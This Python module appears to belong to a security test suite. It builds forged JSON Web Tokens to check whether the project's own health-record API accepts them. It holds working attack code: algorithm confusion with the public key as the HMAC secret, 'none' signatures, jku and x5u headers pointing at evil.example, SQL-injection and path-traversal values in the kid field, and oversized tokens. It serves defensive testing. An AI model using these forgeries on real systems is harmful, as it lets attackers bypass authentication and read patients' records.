"""
AUTH-01: tokens that a verifier of another mind would accept (RFC 8725; RFC 7515 sections 4.1 and 5.2).

Our keys did not sign them, or signed them for something else. Each forgery starts from a token that works, says who the
clinician is, and asks for the clinician's own record.
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from typing import Any

import httpx
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import RSAKey

from meridian.threats.attack import ARSENAL, Attack, Exchange, NotRun
from meridian.threats.attacker import FHIR, Attacker, Browser

THREAT = "AUTH-01"
_OURS = rsa.generate_private_key(public_exponent=65537, key_size=2048)


@dataclass(frozen=True, slots=True)
class Genuine:
    """A token that works, taken apart, and the key that everybody may know."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signature: str
    public: RSAKey
    jwk: dict[str, Any]

    @property
    def kid(self) -> str:
        """Of the key that signed it."""
        return str(self.header["kid"])

    def pem(self) -> bytes:
        """The public key as most libraries read it."""
        return self._bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)

    def der(self) -> bytes:
        """The public key without its armour."""
        return self._bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)

    def pkcs1(self) -> bytes:
        """The public key as RSA alone has it."""
        return self._bytes(Encoding.PEM, PublicFormat.PKCS1)

    def _bytes(self, encoding: Encoding, form: PublicFormat) -> bytes:
        key: rsa.RSAPublicKey = self.public.public_key
        return key.public_bytes(encoding, form)


def encoded(part: bytes | Mapping[str, Any]) -> str:
    """Base64url without padding (RFC 7515 section 2)."""
    raw = part if isinstance(part, bytes) else json.dumps(part, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any] | bytes) -> str:
    """The part of a token that a signature covers."""
    return f"{encoded(header)}.{encoded(claims)}"


def by_secret(genuine: Genuine, secret: bytes, algorithm: str = "HS256", **header: Any) -> str:
    """A token authenticated by HMAC with a *secret* that everybody knows."""
    start = unsigned({**genuine.header, "alg": algorithm, **header}, genuine.claims)
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]
    return f"{start}.{encoded(hmac.digest(secret, start.encode(), digest))}"


def by_our_key(genuine: Genuine, claims: Mapping[str, Any] | None = None, **header: Any) -> str:
    """A token that a key of the attacker's own signed, by the right algorithm."""
    start = unsigned({**genuine.header, **header}, claims or genuine.claims)
    signature = _OURS.sign(start.encode(), padding.PKCS1v15(), hashes.SHA256())
    return f"{start}.{encoded(signature)}"


def without_signature(genuine: Genuine, algorithm: str) -> str:
    """A token that says it needs no signature."""
    return f"{unsigned({**genuine.header, 'alg': algorithm}, genuine.claims)}."


def changed(genuine: Genuine, **claims: Any) -> str:
    """A genuine token with other claims, and the genuine signature."""
    return f"{unsigned(genuine.header, {**genuine.claims, **claims})}.{genuine.signature}"


def our_jwk(genuine: Genuine) -> dict[str, Any]:
    """The attacker's key, under the name of the real one."""
    key = RSAKey.import_key(_OURS.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return {**key.as_dict(private=False), "kid": genuine.kid, "use": "sig", "alg": "RS256"}


def duplicated(genuine: Genuine) -> str:
    """The subject twice: which one counts depends on who reads."""
    raw = json.dumps(genuine.claims, separators=(",", ":")).encode()
    return f"{unsigned(genuine.header, raw[:-1] + b',' + raw[1:])}.{genuine.signature}"


def nested(genuine: Genuine) -> str:
    """A hundred thousand brackets, to see whether the reader falls over."""
    return f"{encoded(b'[' * 100_000)}.{encoded(genuine.claims)}.{genuine.signature}"


def again(genuine: Genuine, part: str = "") -> str:
    """The genuine token, with something appended to its signature."""
    return f"{unsigned(genuine.header, genuine.claims)}.{genuine.signature}{part}"


YEAR = 365 * 86_400
Forge = Callable[[Genuine], str]
FORGERIES: dict[str, tuple[str, Forge]] = {
    "hs256-pem": ("HS256 with the public key's PEM as the secret", lambda g: by_secret(g, g.pem())),
    "hs256-pem-stripped": ("HS256 with the PEM without its last line break", lambda g: by_secret(g, g.pem().strip())),
    "hs256-pkcs1": ("HS256 with the PKCS #1 PEM", lambda g: by_secret(g, g.pkcs1())),
    "hs256-der": ("HS256 with the public key's DER", lambda g: by_secret(g, g.der())),
    "hs256-jwk": ("HS256 with the published JWK", lambda g: by_secret(g, json.dumps(g.jwk).encode())),
    "hs256-modulus": ("HS256 with the modulus alone", lambda g: by_secret(g, g.jwk["n"].encode())),
    "hs384-pem": ("HS384 with the PEM", lambda g: by_secret(g, g.pem(), "HS384")),
    "hs512-pem": ("HS512 with the PEM", lambda g: by_secret(g, g.pem(), "HS512")),
    "hs256-empty": ("HS256 with an empty secret", lambda g: by_secret(g, b"")),
    **{
        f"none-{no}": (f"no signature, algorithm spelt {spelling!r}", partial(without_signature, algorithm=spelling))
        for no, spelling in enumerate(("none", "None", "NONE", "nOnE", "none ", "", "null"), 1)
    },
    "none-kept": ("algorithm none with the old signature", lambda g: without_signature(g, "none") + g.signature),
    "stripped": ("the signature left out", lambda g: f"{unsigned(g.header, g.claims)}."),
    "two-parts": ("no third part at all", lambda g: unsigned(g.header, g.claims)),
    "altered-signature": ("one character of the signature changed", lambda g: again(g)[:-5] + "AAAAA"),
    "appended": ("bytes after the signature", lambda g: again(g, "AAAA")),
    "role": ("the role changed, the signature kept", lambda g: changed(g, role="security-officer")),
    "organisation": ("the organisation changed, the signature kept", lambda g: changed(g, org=g.claims["org"] + 1)),
    "own-key": ("signed by the attacker's own key", by_our_key),
    "own-jwk": ("the attacker's key in the header (`jwk`)", lambda g: by_our_key(g, jwk=our_jwk(g))),
    "jku": ("a key set of the attacker's (`jku`)", lambda g: by_our_key(g, jku="https://evil.example/jwks.json")),
    "x5u": ("a certificate of the attacker's (`x5u`)", lambda g: by_our_key(g, x5u="https://evil.example/c.pem")),
    "x5c": ("a certificate in the header (`x5c`)", lambda g: by_our_key(g, x5c=["MIIB"])),
    "kid-path": ("a key that is a file", lambda g: by_secret(g, b"", kid="../../../../dev/null")),
    "kid-sql": ("a key that is a statement", lambda g: by_secret(g, b"x", kid="x' UNION SELECT 'x' -- ")),
    "kid-list": ("a key that is a list", lambda g: by_our_key(g, kid=[g.kid])),
    "kid-missing": ("a key without a name", lambda g: by_our_key(g, kid=None)),
    "crit": ("an extension that must be understood (`crit`)", lambda g: by_our_key(g, crit=["b64"], b64=False)),
    "issuer": ("another issuer", lambda g: by_our_key(g, {**g.claims, "iss": "https://evil.example"})),
    "audience": ("another audience", lambda g: by_our_key(g, {**g.claims, "aud": "https://evil.example"})),
    "pool": (
        "another user pool's issuer",
        lambda g: by_our_key(g, {**g.claims, "iss": "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Evil"}),
    ),
    "prolonged": ("the end put off by a year, the signature kept", lambda g: changed(g, exp=g.claims["exp"] + YEAR)),
    "no-exp": (
        "without an end",
        lambda g: by_our_key(g, {name: value for name, value in g.claims.items() if name != "exp"}),
    ),
    "duplicate": ("every claim twice", duplicated),
    "nested": ("a header of a hundred thousand brackets", nested),
    "huge": ("two megabytes of claims", lambda g: changed(g, x="A" * 2_000_000)),
}
"""Name → what it is, and how it is made."""


ENDLESS = 1_000_000
"""Octets of headers that no server reads to their end."""


async def genuine(attacker: Attacker) -> Genuine:
    """
    The clinician's token, taken apart.

    Raises:
        NotRun: If no key of the published set signed it.
    """
    header, claims, signature = (await attacker.token("clinician")).split(".")
    async with attacker.browser() as browser:
        published = (await browser.ask("GET", "/.well-known/jwks.json")).json()["keys"]
    read = _decoded(header)
    jwk = next((key for key in published if key["kid"] == read.get("kid")), None)
    if jwk is None:
        raise NotRun("the key that signs tokens is not published")
    return Genuine(read, _decoded(claims), signature, RSAKey.import_key(jwk), jwk)


def _decoded(part: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    return found


async def opens(browser: Browser, token: str, record: str) -> bool:
    """Whether a *token* opens a *record*, as a bearer token or as a cookie."""
    bearer = await _opens(browser, record, {"Authorization": f"Bearer {token}"})
    cookie = await _opens(browser, record, {"Cookie": f"__Host-meridian={token}"})
    return bearer or cookie


async def _opens(browser: Browser, record: str, headers: dict[str, str]) -> bool:
    """Whether the record comes; who sends more than any server reads may be hung up on before it can be told why."""
    try:
        return (await browser.ask("GET", f"{FHIR}/{record}", headers=headers)).is_success
    except NotRun as wrong:
        if sum(map(len, headers.values())) < ENDLESS or not isinstance(wrong.__cause__, httpx.NetworkError):
            raise
    browser.attacker.keep(Exchange(f"GET {FHIR}/{record}, with {ENDLESS} octets or more of headers", "hung up on"))
    await browser.ask("GET", "/.well-known/jwks.json")  # a server that is gone has refused nothing
    return False


def forgery(forge: Forge) -> Callable[[Attacker], Any]:
    """The attack that tries what *forge* makes."""

    async def run(attacker: Attacker) -> str | None:
        real, record = await genuine(attacker), attacker.material.people["clinician"].record
        async with attacker.browser() as browser:
            if not await opens(browser, again(real), record):
                raise NotRun("the genuine token does not open the record either")
            attacker.evidence()  # what was honest is no evidence
            return "the forged token opened the record" if await opens(browser, forge(real), record) else None

    return run


MISUSES = {
    "expired": "signed by our key, and ended a second ago",
    "not-yet": "signed by our key, and valid from tomorrow",
    "too-long": "signed by our key, for a day",
    "issuer": "signed by our key, in the name of another issuer and for another audience",
    "other-session": "signed by our key, for a session that does not exist",
}
"""Tokens that only their claims speak against; `minting` makes them."""


def misuse(kind: str) -> Callable[[Attacker], Any]:
    """The attack that tries a minted token."""

    async def run(attacker: Attacker) -> str | None:
        tokens, record = attacker.material.tokens, attacker.material.people["signer"].record
        async with attacker.browser() as browser:
            if not await opens(browser, tokens["genuine"], record):
                raise NotRun("the session of the minted tokens has ended: make the material anew")
            attacker.evidence()
            return "the token opened the record" if await opens(browser, tokens[kind], record) else None

    return run


for name, title in MISUSES.items():
    ARSENAL.add(Attack(THREAT, f"{THREAT.lower()}/signed-{name}", title, misuse(name)))
for name, (title, forge) in FORGERIES.items():
    ARSENAL.add(Attack(THREAT, f"{THREAT.lower()}/{name}", title, forgery(forge)))


@ARSENAL.attack(THREAT, "elsewhere", "A genuine token of another organisation's clinician opens this one's record")
async def elsewhere(attacker: Attacker) -> str | None:
    """Keys are the platform's, so the token verifies: the organisation in it is what must keep the record shut."""
    own, foreign = (attacker.material.people[part].record for part in ("stranger", "clinician"))
    token = await attacker.token("stranger")
    async with attacker.browser() as browser:
        if not await opens(browser, token, own):
            raise NotRun("the token does not open its own organisation's record")
        attacker.evidence()
        return "it did" if await opens(browser, token, foreign) else None
